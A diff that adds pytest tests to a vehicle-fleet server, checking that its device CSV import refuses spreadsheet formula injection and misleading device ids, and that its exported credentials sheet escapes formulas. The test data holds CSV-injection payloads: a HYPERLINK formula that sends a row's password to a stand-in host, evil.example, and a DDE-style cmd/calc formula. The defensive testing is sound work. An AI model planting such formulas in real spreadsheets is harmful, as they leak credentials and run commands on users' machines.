@@ -166,3 +166,43 @@ def test_broker_passwords_never_start_like_a_spreadsheet_formula() -> None:
 
     passwords = [mqtt_accounts.new_password() for _ in range(3000)]  # ~1 in 64 began with "-" before
     assert not [p for p in passwords if p.startswith("-")] and all(len(p) == 32 for p in passwords)
+
+
+HYPERLINK = '"=HYPERLINK(""http://evil.example/x?p=""&F2,""open manual"")"'  # sends the row's password away
+
+
+@pytest.mark.services
+def test_groups_a_spreadsheet_would_run_and_ids_a_cli_misreads_are_refused(fresh_db, service_info, broker, tmp_path,
+                                                                            monkeypatch) -> None:
+    monkeypatch.setenv("ROADMON_DATABASE_DSN", fresh_db)
+    migrate(fresh_db)
+    conf = _config(tmp_path, service_info, broker)
+    src = tmp_path / "evil.csv"
+    src.write_text(f"device_id,groups\nveh-ok-1,north\nveh-ok-2,{HYPERLINK}\nveh-ok-3,\"north;@SUM(1+1)*cmd|' /C "
+                   "calc'!A0\"\n-veh-9\n..\n.hidden\nveh-ok-4,+1\n")
+    snapshot = broker.passwd_file.read_text()
+    result = CliRunner().invoke(app, ["-c", conf, "device", "import", str(src)])
+    assert result.exit_code == 1, result.output
+    for line in (3, 4, 8):
+        assert f"line {line}: invalid group" in result.output and "formula" in result.output, result.output
+    for line, device in ((5, "-veh-9"), (6, ".."), (7, ".hidden")):
+        assert f"line {line}: invalid device id {device!r}" in result.output, result.output
+    assert "starting with a letter or digit" in result.output
+    assert broker.passwd_file.read_text() == snapshot and not (tmp_path / "evil.credentials.csv").exists()
+    with psycopg.connect(fresh_db) as conn:
+        assert conn.execute("SELECT count(*) FROM devices").fetchone()[0] == 0
+
+
+def test_credentials_sheet_runs_nothing_in_a_spreadsheet() -> None:
+    # Rows made without parse_rows (which refuses such groups now): the sheet itself must still be safe.
+    from fleet_server import provision
+    from fleet_server.config import ServerConfig
+
+    formulas = ['=HYPERLINK("http://evil.example/x?p="&F2,"open manual")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                "+1", "-2", "\t=1"]
+    rows = [provision.Row(i, f"veh-{i}", (g,)) for i, g in enumerate(formulas)]
+    sheet = provision._credentials_csv(rows, {r.device_id: "pw" for r in rows}, {r.device_id: "rmt_x" for r in rows},
+                                       ServerConfig())
+    cells = list(csv.DictReader(sheet.splitlines()))
+    assert [c["groups"] for c in cells] == ["'" + g for g in formulas]
+    assert [c["device_id"] for c in cells] == [r.device_id for r in rows] and cells[0]["mqtt_port"] == "1883"
